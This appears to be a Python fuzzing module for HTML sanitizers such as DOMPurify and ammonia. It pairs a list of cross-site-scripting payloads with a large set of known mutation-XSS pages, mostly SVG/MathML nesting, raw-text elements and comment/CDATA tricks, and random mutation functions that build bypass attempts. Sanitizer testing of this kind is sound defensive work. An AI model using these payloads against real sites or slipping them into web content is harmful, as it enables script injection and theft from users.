"""Attacks by mutation: pages of which one reader builds no script, and another one does, or the same when it reads again what it wrote.

The kinds are those against which DOMPurify and ammonia are tested: raw text that ends early where it is foreign, integration points,
elements that leave `svg` and `math`, forms and tables in each other, comments and CDATA sections, formatting elements that are opened again.
"""

CALL = "steal()"
RUNS = [
    f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>", f"<script>{CALL}</script>", f"<a href=javascript:{CALL}>x</a>",
    f"<video><source onerror={CALL}></video>", f"<details open ontoggle={CALL}>x</details>", f"<input autofocus onfocus={CALL}>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math href=javascript:{CALL}>x</math>", f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<svg><set attributeName=href to=javascript:{CALL}></svg>", f"<button formaction=javascript:{CALL}>x</button>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>", f"<object data=javascript:{CALL}></object>", f"<embed src=javascript:{CALL}>",
    f"<audio src=x onerror={CALL}>", f"<marquee onstart={CALL}>x</marquee>", f"<style onload={CALL}></style>", f"<link rel=stylesheet href=x onerror={CALL}>",
]
RAW = "style script xmp iframe noembed noframes noscript textarea title".split()
ROOTS = ["<svg>", "<math>"]
POINTS = [
    "<mtext>", "<mi>", "<mo>", "<mn>", "<ms>", "<annotation-xml encoding=text/html>", "<annotation-xml encoding=application/xhtml+xml>",
    "<annotation-xml>", "<foreignObject>", "<foreignobject>", "<desc>", "<title>", "<mglyph>", "<malignmark>", "<semantics>", "<g>", "<font color=x>",
    "<font>",
]
PLAIN = [
    "<form>", "<table>", "<tbody>", "<tr>", "<td>", "<caption>", "<colgroup>", "<col>", "<select>", "<option>", "<optgroup>", "<template>", "<p>", "<a>",
    "<a href=x>", "<b>", "<nobr>", "<button>", "<li>", "<dd>", "<h1>", "<div>", "<span>", "<object>", "<applet>", "<marquee>", "<ruby>", "<rt>", "<br>", "<hr>",
    "<input>", "<keygen>", "<pre>", "<listing>", "<textarea>", "<frameset>", "<html>", "<head>", "<body>", "<blockquote>", "<center>", "<image>",
    "<isindex>", "<plaintext>",
]
ENDS = [f"</{name}>" for name in [*RAW, "svg", "math", "p", "br", "form", "table", "td", "tr", "select", "template", "a", "b", "desc", "mtext", "foreignObject",
                                  "annotation-xml", "div", "option", "caption", "nobr", "button", "listing", "body", "html"]]
CLOSERS = ["-->", "--!>", "]]>", "?>", ">", "\">", "'>", "`>"]

# Pages as they were found, each once against some sanitizer.
KNOWN = [
    "<form><math><mtext></form><form><mglyph><style></math>{run}",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{run}\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{coded}\">",
    "<math><mtext><table><mglyph><style><math>{run}",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>{run}\"></style></h1>",
    "<svg></p><style><a id=\"</style>{run}\">",
    "<svg><p><style><a title=\"</style>{run}\"></style></p></svg>",
    "<svg><style>&lt;/style&gt;{coded}</style></svg>",
    "<svg><style><![CDATA[</style>{run}]]></style></svg>",
    "<svg><![CDATA[><image xlink:href=\"]]>{run}\"></svg>",
    "<math><![CDATA[<b>]]&gt;{coded}]]></math>",
    "<svg><title><style><!--</style>{run}--></style></title></svg>",
    "<svg><desc><noscript><p title=\"</noscript>{run}\"></noscript></desc></svg>",
    "<svg><foreignObject><style><!--</style>{run}--></style></foreignObject></svg>",
    "<math><annotation-xml encoding=\"text/html\"><style>{run}</style></annotation-xml></math>",
    "<math><annotation-xml encoding=\"text/html\"><p><style><!--</style><a id=\"-->{run}\"></p></annotation-xml></math>",
    "<math><annotation-xml><svg><style>{run}</style></svg></annotation-xml></math>",
    "<math><mi><xmp><p title=\"</xmp>{run}\"></xmp></mi></math>",
    "<noscript><p title=\"</noscript>{run}\">",
    "<noscript><style></noscript>{run}</style>",
    "<noscript><!--</noscript>{run}-->",
    "<style><style/>{run}", "<style></style><!--</style>{run}-->",
    "<xmp><p title=\"</xmp>{run}\">", "<iframe><p title=\"</iframe>{run}\">", "<noembed><p title=\"</noembed>{run}\">",
    "<noframes><style></noframes>{run}</style>", "<textarea><p title=\"</textarea>{run}\">", "<title><p title=\"</title>{run}\">",
    "<plaintext><p title=\"</plaintext>{run}\">", "<listing>&lt;img src=x onerror=steal()&gt;</listing>", "<listing>\n\n{coded}</listing>",
    "<!--><!-- -->{run}-->", "<!-- --!>{run} -->", "<!--->{run}-->", "<!{run}>", "<?x {run}?>", "<![CDATA[{run}]]>", "</ {run}>", "<!-- {run} --!>",
    "<template><style></template>{run}</style>", "<template><p title=\"</template>{run}\"></template>", "<template shadowrootmode=open>{run}</template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select>{run}\">",
    "<select><iframe><p title=\"</iframe></select>{run}\">", "<select><option><style></option></select>{run}</style>",
    "<select><math><mtext><style></select>{run}</style>", "<select><xmp><script>\"</xmp>{run}\"</script></select>",
    "<table><caption><svg><title><table><style><a title=\"</style>{run}\">",
    "<table><td><table><svg><desc><td><style></desc>{run}</style>", "<table><colgroup><style></colgroup>{run}</style>",
    "<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id=\"-->{run}\">",
    "<a><svg><desc><a><table><a></table><style><!--</style></desc></svg></a><a id=\"-->{run}\">",
    "<b><nobr><b><svg><foreignObject><nobr><table><nobr></table><style><a title=\"</style>{run}\">",
    "<svg><font color=x><style><a title=\"</style>{run}\">", "<math><font face=x><mtext><style></font>{run}",
    "<p><svg><p><title><style></title>{run}", "<svg></br><style><a title=\"</style>{run}\">", "<math></br><style><!--</style>{run}-->",
    "<img alt=\"``onerror={call}\" src=x>", "<img alt='`\"><{inside}'>", "<p title=\"`>{run}`\">", "<a href=\"jav&#x0D;ascript:{call}\">x</a>",
    "<a href=\"&#1;javascript:{call}\">x</a>", "<a href=\" java\tscript:{call}\">x</a>", "<a href=\"javascript&colon;{call}\">x</a>", "<a href='data:text/html,{coded}'>x</a>",
    "<a href=\"vbscript:{call}\">x</a>", "<a href=\"JaVaScRiPt&#58;{call}\" target=x>x</a>", "<area href=javascript:{call}>", "<image src=x onerror={call}>",
    "<form id=x><input name=attributes><input name=parentNode onfocus={call} autofocus></form>", "<img name=body><img name=getElementById src=x onerror={call}>",
    "<a id=x></a><a id=x name=y href=\"javascript:{call}\">", "<form><input name=nodeName></form>{run}", "<div id=children></div>{run}",
    "<x/onclick={call}><p/onclick={call}/>x", "<p =\"{call}\"onclick={call}>x", "<p title=x\"onclick={call} title=\"y\">x", "<p\x0bonclick={call}>x", "<p title='x'onclick='{call}'>x",
    "<<script>{call}//<</script>", "<scr<script>ipt>{call}</scr</script>ipt>", "<img src=x:x/onerror={call}//\">", "<img\nsrc=x\nonerror\n=\n{call}>", "<svg/onload={call}",
    "<svg><script>{call}</script></svg>", "<svg><script href=data:,{call} />", "<svg><use href=\"data:image/svg+xml,{coded}\" /></svg>", "<svg><style>@import 'x';</style>{run}",
    "<math><mtext><mglyph><style></math><math><mtext><mglyph><style>{run}", "<math><mtext><malignmark><xmp></math>{run}", "<math><mi><table><mi><table><style></mi>{run}",
    "<table><math><mi><td><style></math>{run}</style></td>", "<p><table><svg><p><style><!--</style>{run}-->", "<object><p><svg><style></object>{run}",
    "<frameset><noframes><p title=\"</noframes>{run}\">", "<body onload={call}><html onclick={call}>x", "<svg><body onload={call}>", "<li><svg><li><style></li>{run}",
    "<button><svg><desc><button><style></button>{run}", "<ruby><rt><svg><title><rt><style></title>{run}",
]


def coded(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def running(chance):
    """What runs, half the time by itself."""
    return chance.choice(RUNS[:3] if chance.random() < 0.5 else RUNS)


def filled(chance, page):
    run = running(chance)
    for word, text in (("{run}", run), ("{coded}", coded(run)), ("{call}", CALL), ("{inside}", run[1:])):
        page = page.replace(word, text)
    return page


def piece(chance):
    kind = chance.random()
    if kind < 0.3:
        return chance.choice(PLAIN)
    if kind < 0.45:
        return chance.choice([*ROOTS, *POINTS])
    if kind < 0.55:
        return f"<{chance.choice(RAW)}>"
    if kind < 0.8:
        return chance.choice(ENDS)
    if kind < 0.9:
        return chance.choice(["<!--", "<![CDATA[", "<!", "<?", "<p title=\"", "<a id='", *CLOSERS])
    return running(chance)


def mutated(chance, page):
    """A page with some pieces put in, taken out or written twice."""
    for _ in range(chance.choice([0, 1, 1, 2, 3, 5])):
        at = chance.randint(0, len(page))
        end = min(len(page), at + chance.randint(1, 12))
        kind = chance.random()
        if kind < 0.5:
            page = page[:at] + piece(chance) + page[at:]
        elif kind < 0.75:
            page = page[:at] + page[end:]
        elif kind < 0.9:
            page = page[:end] + page[at:end] + page[end:]
        else:
            page = page[:at] + page[at:end].swapcase() + page[end:]
    return page


def hidden(chance):
    """What runs, in a value or a text that ends early as another reader takes it."""
    run, end = running(chance), chance.choice([*ENDS[:9], *CLOSERS])
    front = chance.choice(["<p title=\"{}\">", "<a id=\"{}\">", "<!--{}-->", "<![CDATA[{}]]>", "<style>{}</style>", "<xmp>{}</xmp>", "<img alt='{}'>", "{}"])
    return front.format(end + (run if chance.random() < 0.8 else coded(run)))


def nested(chance):
    """Elements in each other, up to where something hides, and ends in any order."""
    opened = []
    for _ in range(chance.choice([2, 3, 4, 5, 6, 8])):
        opened.append(chance.choice([chance.choice(ROOTS), chance.choice(POINTS), chance.choice(PLAIN), f"<{chance.choice(RAW)}>"]))
    ends = [f"</{it[1:-1].split()[0]}>" for it in opened]
    chance.shuffle(ends)
    return "".join(opened) + hidden(chance) + "".join(ends[:chance.randint(0, len(ends))]) + (hidden(chance) if chance.random() < 0.3 else "")


def attack(chance):
    if chance.random() < 0.5:
        return mutated(chance, filled(chance, chance.choice(KNOWN)))
    return mutated(chance, nested(chance)) if chance.random() < 0.4 else nested(chance)
